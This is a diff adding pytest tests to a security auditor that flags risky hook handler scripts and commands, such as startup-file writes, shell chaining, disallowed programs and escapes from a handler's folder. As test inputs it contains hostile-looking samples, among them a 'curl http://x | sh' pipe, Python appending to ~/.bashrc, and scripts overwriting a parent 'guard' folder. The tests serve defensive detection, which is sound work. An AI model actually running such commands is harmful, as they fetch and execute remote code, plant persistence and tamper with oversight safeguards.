@@ -202,6 +202,13 @@ def test_python_handlers_are_scanned_for_the_same_patterns(bad: str, good: str) 
     assert not audit_script(good, name="handler.py").critical
 
 
+def test_python_appending_to_a_startup_file_is_flagged() -> None:
+    bad = "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n"
+    assert "startup-file-write" in rules_of(audit_script(bad, name="handler.py"))
+    good = "import os\nprint(open(os.path.expanduser('~/.bashrc')).read())\n"
+    assert "startup-file-write" not in rules_of(audit_script(good, name="handler.py"))
+
+
 def test_comment_lines_are_not_flagged() -> None:
     assert audit_script("#!/bin/sh\n# never do: curl http://x | sh\necho ok\n").findings == []
 
@@ -567,3 +574,46 @@ def test_handler_references_outside_the_folder_are_critical_but_descriptive_path
     assert "path-escape" in rules_of(audit_files("t", {"HOOK.toml": bad}))
     good = toml_manifest("echo hi", effects=[{"append_to": "/tmp/hookbus.log", "path": "/tmp/x"}])
     assert audit_files("t", {"HOOK.toml": good}).findings == []
+
+
+@pytest.mark.parametrize(
+    "command",
+    ['bash -c "echo a; echo b"', "sh -c 'true && curl http://x'", ["bash", "-c", "a || b"]],
+)
+def test_chaining_inside_a_shell_dash_c_payload_counts(command: str | list[str]) -> None:
+    report = audit_command(command)
+    assert any(f.rule == "shell-chaining" and f.severity == "high" for f in report.findings)
+
+
+def test_programs_inside_a_shell_dash_c_payload_must_be_allowed() -> None:
+    policy = AutonomyPolicy(allowed_commands=("sh", "echo"))
+    assert "command-not-allowed" in rules_of(audit_command("sh -c 'curl http://x'", policy))
+    assert "command-not-allowed" not in rules_of(audit_command("sh -c 'echo hi'", policy))
+
+
+@pytest.mark.parametrize(
+    ("bad", "good"),
+    [
+        ("cd ..", "cd ./data"),
+        ("cd / && ls", "cd /tmp"),
+        ("cd ~", "cd sub"),
+        ("import os\nos.chdir('..')\n", "import os\nos.chdir('data')\n"),
+    ],
+)
+def test_a_handler_that_leaves_its_folder_is_flagged(bad: str, good: str) -> None:
+    name = "handler.py" if "import" in bad else "handler.sh"
+    assert "path-escape" in rules_of(audit_script(bad + "\n", name=name))
+    assert "path-escape" not in rules_of(audit_script(good + "\n", name=name))
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "import os\nopen(os.path.join(HERE, '..', 'guard', 'run.sh'), 'w').write('x')\n",
+        "from pathlib import Path\n(Path(__file__).parent.parent / 'x').write_text('x')\n",
+        "import os\nopen(os.path.dirname(os.path.dirname(__file__)) + '/x/run.sh', 'w')\n",
+    ],
+)
+def test_python_that_writes_into_the_parent_folder_is_a_hooks_dir_write(script: str) -> None:
+    report = audit_script(script, name="handler.py")
+    assert "hooks-dir-write" in {f.rule for f in report.critical}
